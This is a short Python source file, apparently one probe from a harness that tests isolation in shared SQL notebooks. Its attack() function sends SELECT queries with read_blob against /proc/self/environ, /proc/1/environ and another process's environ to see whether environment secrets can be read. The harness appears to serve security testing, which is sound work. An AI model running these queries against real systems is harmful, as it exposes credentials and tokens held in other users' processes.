"""Read the environments of processes through the database.

origin: read_text('/proc/self/environ') in notebooks that run SQL for others
why: what is in /proc is a file to SQL
control: succeeds
grants: data
data: input
"""


def attack(target):
    places = ("/proc/self/environ", "/proc/thread-self/environ", f"/proc/{target['victim']}/environ", "/proc/1/environ")
    last = "nothing was read"
    for database in databases():
        # A column that is asked for, so that the file is read and not only found.
        text, refused = ask(database, f"SELECT content FROM read_blob({list(places[:1])!r})")
        if holds_token(target, repr(text)):
            return escaped("an environment was read")
        for place in places[1:]:
            blob, refused = ask(database, f"SELECT content FROM read_blob('{place}')")
            if holds_token(target, repr(blob)):
                return escaped(f"{place} was read")
        last = refused or last
    return nothing(last)
